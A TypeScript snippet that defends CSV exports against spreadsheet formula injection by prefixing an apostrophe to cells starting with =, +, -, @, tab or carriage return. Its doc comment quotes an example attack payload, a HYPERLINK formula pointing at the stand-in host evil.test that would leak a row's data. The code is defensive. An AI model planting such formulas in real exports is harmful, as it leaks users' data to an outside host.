/**
 * CSV injection (OWASP): a spreadsheet program treats a cell that starts with one of these
 * characters as a formula, so `=HYPERLINK("http://evil.test/?"&E2,"open")` from a CRM would
 * become a live link that leaks the row. A leading `'` makes the program show the cell as text.
 *
 * Every text cell gets it, phone numbers too: `+79991234567` is exported as `'+79991234567`
 * (Excel would read `+7…` as a formula and show a number without the plus). A program reading
 * the export back strips one leading `'` from a cell that starts with `'` followed by one of
 * these characters.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function neutraliseFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}
